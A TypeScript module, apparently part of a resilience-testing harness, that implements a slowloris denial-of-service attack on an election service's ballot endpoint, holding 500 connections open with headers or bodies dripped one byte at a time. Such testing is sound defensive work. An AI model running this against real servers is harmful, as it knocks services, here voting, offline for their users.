// Connections on which a request comes byte by byte and never ends (slowloris): every other one in its headers, the others in a body.
import { type Attack, hold } from "./attack.ts";

const PACE = 500; // milliseconds between two bytes

export const attack: Attack<undefined> = {
  says: "requests whose headers or bodies come byte by byte",
  atOnce: 500,
  equip: async () => undefined,
  one: (target, place) =>
    hold(target, (socket) => {
      const { host, pathname } = new URL(target.election);
      const begin = `POST ${pathname}/ballots HTTP/1.1\r\nhost: ${host}\r\n`;
      const inBody = place % 2 === 1;
      socket.write(begin + (inBody ? "content-type: application/json\r\ncontent-length: 2900\r\n\r\n" : ""));
      const endless = inBody ? " " : "x-slow: a\r\n";
      let sent = 0;
      const dripping = setInterval(() => {
        socket.write(endless[sent++ % endless.length] ?? "");
        target.tell("one byte more");
      }, PACE);
      socket.on("close", () => clearInterval(dripping));
    }),
};
